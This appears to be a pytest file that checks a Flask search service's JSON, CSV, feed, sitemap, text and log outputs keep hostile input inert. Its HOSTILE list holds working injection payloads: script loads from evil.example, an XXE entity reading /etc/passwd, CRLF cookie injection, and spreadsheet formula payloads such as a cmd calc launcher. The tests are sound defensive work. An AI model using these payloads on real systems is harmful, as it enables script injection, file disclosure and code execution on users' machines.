"""Whatever a page, a query or a table says stays text in every form that leaves the server, not in pages alone."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Sequence
from dataclasses import replace
from typing import cast

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from search import settings
from search.errors import NoSuchDocument
from search.library import Library
from search.model import Document, Hit, Query, Results
from tests.test_web_escaping import STRINGS, Hostile, assert_harmless
from web import create_app
from web.sheet import defused

# What is harmless in a page may be none in a table, a feed, a line or a header.
HOSTILE = (
    *STRINGS,
    "\"><script src=//evil.example/x.js></script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<style>@import'//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;b&gt; &amp;amp; &#60;b&#62;",
    "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    "\"\r\n=1+1\"",
    "a,b;c\td\"e\"",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{config}} ${7*7} #{7*7} <%= 7*7 %>",
    "\u2028\u2029\u0085\ufeff\ufffe\uffff",
    "\x00\x01\x08\x0b\x0c\x1f\x7f",
    "\U0001f600\U000e0001",
    "</script>" * 20,
)  # fmt: skip


class Shelf(Hostile):
    """The hostile library with what the exports ask of one."""

    def search(self, query: Query) -> Results:
        return replace(super().search(query), next=self.text)

    def scan(self, query: Query) -> Iterator[Hit]:
        return iter(super().search(query).hits)

    def document(self, id: str) -> Document:
        if id.endswith((".json", ".txt")):
            raise NoSuchDocument(id)
        return super().document(id)

    def family(self, _id: str) -> tuple[Document, ...]:
        return (self._document, replace(self._document, id=self.text + "2"))

    def first_seen(self, ids: Sequence[str]) -> dict[str, str]:
        return dict.fromkeys(ids, "2024-05-31T00:00:00+00:00")

    def ids(self, _start: int, _count: int) -> Iterator[str]:
        return iter([self.text])


def client(text: str) -> FlaskClient:
    return create_app(cast(Library, Shelf(text)), settings.load({})).test_client()


def checked(response: TestResponse, *mimetypes: str) -> TestResponse:
    """The response, after a look at what makes a browser treat it as something else."""
    assert response.mimetype in mimetypes
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'unsafe" not in response.headers["Content-Security-Policy"]
    assert "Set-Cookie" not in response.headers
    for name, value in response.headers:
        assert not set("\r\n") & set(name + value)
    return response


every = pytest.mark.parametrize("text", HOSTILE)


@every
def test_json_gives_back_exactly_the_text(text: str) -> None:
    web = client(text)
    for path in ("/api/v1/search", "/search.json"):
        response = checked(web.get(path, query_string={"q": text}), "application/json")
        answer = json.loads(response.data)
        assert answer["hits"][0]["title"] == answer["build"] == text
        assert {value["value"] for values in answer["facets"].values() for value in values} == {text, "x"}
        for values in answer["facets"].values():
            for value in values:
                assert value["toggle_url"].startswith(path)
    for path in ("/api/v1/documents/x", "/documents/x.json"):
        found = json.loads(checked(web.get(path), "application/json").data)
        assert found["title"] == found["body"] == found["regions"][0]["name"] == text
    family = json.loads(checked(web.get("/api/v1/documents/x/reprints"), "application/json").data)
    assert family["reprints"][0]["title"] == text


@every
def test_failures_are_json_that_names_and_never_runs_it(text: str) -> None:
    web = client(text)
    for path in ("/api/v1/search", "/search.json", "/search.csv", "/search.ndjson", "/search.atom"):
        for asked in ({"region": text}, {text: "1"}, {"page": text}, {"from": text}):
            response = checked(
                web.get(path, query_string=asked),
                "application/json", "text/csv", "application/x-ndjson", "application/atom+xml",
            )  # fmt: skip
            assert response.status_code in (200, 400)
            if response.status_code == 400:
                assert set(json.loads(response.data)["error"]) == {"code", "message", "param"}


@every
def test_a_table_has_one_row_a_hit_and_no_formula(text: str) -> None:
    response = checked(client(text).get("/search.csv", query_string={"q": "x"}), "text/csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="policysearch.csv"'
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    assert len(rows[0]) == len(rows[1])
    assert defused(text) in rows[1]
    for cell in rows[1]:
        assert not cell.lstrip(" \ufeff\u200b").startswith(tuple("=+-@＝＋－＠\t\r\n"))
        assert "\x00" not in cell


@every
def test_pages_left_out_are_a_table_without_formulas_and_lines_that_say_it_unchanged(text: str) -> None:
    web = client(text)
    response = checked(web.get("/coverage/rejects.csv"), "text/csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert rows == [["origin", "code", "reason"], [defused(text)] * 3]
    lines = checked(web.get("/coverage/rejects.ndjson"), "application/x-ndjson").data.split(b"\n")
    assert json.loads(lines[0]) == {"origin": text, "code": text, "reason": text}
    assert lines[1:] == [b""]


@every
def test_a_line_is_one_hit(text: str) -> None:
    response = checked(client(text).get("/search.ndjson"), "application/x-ndjson")
    lines = response.data.split(b"\n")
    assert len(lines) == 2
    assert json.loads(lines[0])["title"] == text


@every
def test_xml_is_well_formed_and_links_nowhere_else(text: str) -> None:
    web = client(text)
    for path, mimetype in (
        ("/search.atom", "application/atom+xml"),
        ("/sitemap.xml", "application/xml"),
        ("/sitemap-1.xml", "application/xml"),
        ("/opensearch.xml", "application/opensearchdescription+xml"),
    ):
        response = checked(web.get(path, query_string={"q": text}), mimetype)
        assert response.status_code == 200
        assert b"<!ENTITY" not in response.data
        for element in ET.fromstring(response.data).iter():  # noqa: S314 - our own
            assert element.tag.rsplit("}", 1)[-1] not in (
                "script",
                "svg",
                "a",
                "iframe",
                "style",
                "b",
                "meta",
            )
            assert element.get("href", "http://").startswith(("http://", "https://"))
    feed = ET.fromstring(web.get("/search.atom").data)  # noqa: S314 - our own
    title = feed.findtext("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}title") or ""
    # Of a line's end XML makes one of its own, and what it has no place for is shown as lost.
    assert set(title) <= set(text * 2) | set("\ufffd\n")


@every
def test_plain_text_is_never_sniffed_as_a_page(text: str) -> None:
    response = checked(client(text).get("/documents/x.txt"), "text/plain")
    assert response.data.decode().startswith(text)


@every
def test_a_redirect_leads_to_the_page_and_nowhere_else(text: str) -> None:
    response = client(text).get("/search", query_string={"q": text})
    assert response.status_code == 308
    assert response.headers["Location"].startswith("/?q=")
    assert not set('\r\n<>"') & set(response.headers["Location"])


@every
def test_what_is_logged_and_counted_never_holds_it(text: str, caplog: pytest.LogCaptureFixture) -> None:
    web = client(text)
    with caplog.at_level("INFO", "policysearch.requests"):
        web.get("/", query_string={"q": text})
        web.get("/api/v1/search", query_string={"q": text})
    for record in caplog.records:
        if record.name == "policysearch.requests":
            assert set(json.loads(record.getMessage())) >= {"endpoint", "status"}
            assert text not in record.getMessage()
    assert checked(web.get("/metrics"), "text/plain").status_code == 200


def test_the_documents_of_the_api_hold_nothing_from_pages() -> None:
    web = client("<script>alert(1)</script>")
    assert "<script" not in web.get("/api/v1/openapi.json").text
    assert_harmless(web.get("/api/v1/docs").text)
